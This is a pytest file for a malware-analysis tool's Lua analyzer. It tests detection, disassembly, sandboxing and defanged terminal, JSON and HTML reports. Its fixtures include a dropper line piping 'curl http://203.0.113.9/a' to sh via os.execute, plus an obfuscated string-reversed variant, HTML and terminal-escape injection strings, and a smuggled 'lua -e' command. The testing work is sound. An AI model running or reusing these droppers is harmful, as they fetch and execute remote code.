"""`perilune analyze` on Lua, from outside: under any name, inside other files, on the terminal, as JSON and as HTML."""

from __future__ import annotations

import io
import json
import zipfile
from importlib.resources import files
from pathlib import Path

import jsonschema
import pytest

from perilune.analysis.lua import cage
from perilune.cli.analyze import SCRIPTS, _lists, is_list
from perilune.cli.analyze_lua import explain, wants
from perilune.cli.analyze_output import dump
from tests.cli.test_analyze import perilune

CORPUS = Path(__file__).parent.parent / "analysis" / "lua" / "corpus"
SCHEMA = json.loads((files("perilune") / "content" / "schemas" / "analyze.schema.json").read_text())
DROPPER = b"local c = 'curl http://203.0.113.9/a | sh'\nos.execute(c)\n"


def _json(*arguments: str | Path) -> dict[str, object]:
    found = json.loads(perilune("analyze", "--no-exec", "--json", *arguments).stdout)
    jsonschema.validate(found, SCHEMA)
    assert isinstance(found, dict)
    return found


def _zipped(path: Path) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("uix.txt", DROPPER)
    path.write_bytes(buffer.getvalue())
    return path


def test_the_terminal_says_what_it_is_what_it_does_and_that_it_was_not_run(tmp_path: Path) -> None:
    script = tmp_path / "readme.txt"
    script.write_bytes(DROPPER)
    done = perilune("analyze", "--no-exec", script)
    shown = done.stdout.decode()
    assert done.returncode == 1, done.stderr
    for words in (
        "Lua source text",
        "Not run: --no-exec was given",
        "T1059.011",
        "http://203.0.113.9/a",
        "line 2: os.execute(",
    ):
        assert words in shown
    assert "clean" not in shown


def test_compiled_lua_under_another_name_is_listed(tmp_path: Path) -> None:
    script = tmp_path / "readme.txt"
    script.write_bytes((CORPUS / "compiled" / "redline.luac").read_bytes())
    shown = perilune("analyze", "--no-exec", script).stdout.decode()
    for words in ("LuaJIT 2.1 compiled code", "Disassembly of layer 0", "KSTR", "main, instruction 9: ffi.load"):
        assert words in shown


def test_json_follows_its_schema() -> None:
    lists = _lists(())
    for path in sorted(CORPUS.rglob("*.lua*")):
        found = json.loads(dump([], [explain(path.read_bytes(), path.name, run=False, lists=lists)]))
        jsonschema.validate(found, SCHEMA)
        assert found["analyses"] == []
        assert len(found["lua"]) == 1


def test_json_has_every_instruction_and_constant() -> None:
    (one,) = _json(CORPUS / "compiled" / "remsec.luac")["lua"]  # type: ignore[misc]
    functions = one["units"][0]["chunk"]["functions"]
    assert functions and all(function["code"] for function in functions)
    assert any('"' in constant for function in functions for constant in function["constants"])


def test_lua_inside_a_zip_and_in_a_command_line(tmp_path: Path) -> None:
    (inside,) = _json(_zipped(tmp_path / "update.dat"))["lua"]  # type: ignore[misc]
    assert inside["units"][0]["identity"]["form"] == "carrier"
    assert "http://203.0.113.9/a" in {one["value"] for one in inside["indicators"]}
    found = _json("--command", "lua -e \"local o = os; o['exe'..'cute']('id')\"")
    (part,) = found["lua"]  # type: ignore[misc]
    assert part["calls"][0]["name"] == "os.execute"
    layers = found["analyses"][0]["layers"]  # type: ignore[index]
    assert layers[part["layer"]]["language"] == "lua"


def test_html_is_one_file_that_asks_for_nothing_and_escapes_what_it_shows(tmp_path: Path) -> None:
    script, page = tmp_path / "<b>.lua", tmp_path / "out.html"
    script.write_bytes(b"-- <script>alert(1)</script> \x1b[2J\n" + DROPPER)
    done = perilune("analyze", "--no-exec", script, "--html", page)
    assert done.returncode == 1, done.stderr
    text = page.read_text()
    assert "<script" not in text and "\x1b" not in text
    assert "&lt;script&gt;" in text and "⟨U+001B⟩" in text
    assert "Content-Security-Policy" in text and "default-src 'none'" in text
    assert "http://203" not in text and "hxxp://203[.]0[.]113[.]9" in text


def test_html_without_lua_is_a_wrong_use(tmp_path: Path) -> None:
    done = perilune("analyze", "--command", "ls", "--html", tmp_path / "x.html")
    assert done.returncode == 2
    assert b"no Lua" in done.stderr


def test_terminal_escapes_in_a_script_do_not_reach_the_terminal(tmp_path: Path) -> None:
    script = tmp_path / "a.lua"
    script.write_bytes(b"os.execute('\\27[2J\x1b]0;owned\x07')\nlocal \xe2\x80\xae = 1\n")
    done = perilune("analyze", "--no-exec", "--deep", script)
    assert b"\x1b" not in done.stdout and b"\x07" not in done.stdout


def test_what_is_listed_counts(tmp_path: Path) -> None:
    mine, script = tmp_path / "mine.csv", tmp_path / "a.lua"
    mine.write_text("indicator,date\nupdates.example.org,2026-01-01\n")
    script.write_text("local http = require('socket.http')\nhttp.request('http://updates.example.org/x')\n")
    (without,) = _json(script)["lua"]  # type: ignore[misc]
    (listed,) = _json(script, "--list", mine)["lua"]  # type: ignore[misc]
    assert listed["score"] > without["score"]
    assert "listed-indicator" in {one["id"] for one in listed["capabilities"]}


@pytest.mark.parametrize(
    ("data", "name", "expected"),
    [
        (DROPPER, "notes.txt", True),
        (b"\x1bLJ\x02\x0a\x00", "readme.txt", True),
        (b"print(1)", "x.lua", True),
        (b"content_by_lua_block { ngx.say('x') }", "nginx.conf", True),
        (b"EVAL \"return redis.call('get', 'a')\" 0\n", "redis.log", True),
        (b"lua -e 'os.exit()'\nwhoami\n", "commands.txt", False),
        (b"#!/bin/sh\necho hi\n", "a.sh", False),
        (b"Get-Date; local x", "a.ps1", False),
        (b"whoami\n", "x", False),
    ],
)
def test_which_files_are_explained_as_lua(data: bytes, name: str, expected: bool) -> None:
    known = SCRIPTS.get(Path(name).suffix, "")
    assert wants(data, name, known, lambda: is_list(data.decode("latin-1"))) is expected


def test_lua_is_run_by_default_where_the_cage_shuts_and_says_so_where_not(tmp_path: Path) -> None:
    ready, why = cage.available()
    script = tmp_path / "x.log"
    script.write_text(
        "local part = string.reverse('etucexe') local o = os\n"
        "local c = 'cu' .. 'rl http://203.0.113.9/a | sh'\no[part](c)\n"
    )
    done = perilune("analyze", script)
    shown = done.stdout.decode()
    if ready:
        assert done.returncode == 1, done.stderr
        assert "Run in the cage: explained" in shown
        assert "What it did when it was run" in shown
    else:
        assert done.returncode == 3
        assert why in shown and "Not run:" in shown
    assert "os.execute" in shown


def test_at_80_columns_nothing_is_wider(tmp_path: Path) -> None:
    script = tmp_path / "x.lua"
    script.write_bytes(DROPPER)
    done = perilune("analyze", "--no-exec", "--deep", script, columns=80)
    assert max(map(len, done.stdout.decode().splitlines())) <= 80
